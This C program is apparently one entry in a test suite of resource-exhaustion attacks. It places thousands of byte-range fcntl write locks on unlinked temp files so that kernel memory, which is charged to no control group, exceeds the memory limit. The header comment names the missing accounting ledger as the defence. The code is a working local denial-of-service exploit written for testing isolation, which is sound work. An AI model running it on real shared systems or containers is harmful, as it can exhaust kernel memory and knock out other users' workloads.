/* Locks every second byte of files: each lock is memory of the kernel's that is charged to nobody.
 * goal: half as much memory again as the limit
 * stopped by: the ledger of pages that no control group pays for
 * first: ledger
 * second: -
 * memory: 32
 * alone: the kernel has no limit on locks any more (RLIMIT_LOCKS ended with Linux 2.4)
 * ends: memory-limit
 */
#include "attack.h"
int main(void) {
    many_descriptors();
    /* Against a limit of its own, a small one: locks of one file are looked through for each new one. */
    size_t wanted = figure("ATTACK_MEMORY") / 2 * 3 / 192, got = 0;
    for (int i = 0; got < wanted; i++) {
        char path[64];
        snprintf(path, sizeof path, "/tmp/locks-%d-%d", getpid(), i);
        int fd = open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0600), refused = 0;
        if (fd < 0) break;
        unlink(path);
        /* Backwards: a new one is put where the search begins. */
        for (int byte = 500; byte > 0 && got < wanted; byte--, got++) {
            struct flock lock = { .l_type = F_WRLCK, .l_whence = SEEK_SET, .l_start = 2L * byte, .l_len = 1 };
            if (fcntl(fd, F_SETLK, &lock)) { refused = 1; break; }
        }
        if (refused) break;
    }
    if (got >= wanted) reached("%zu locks", got);
    return tried();
}
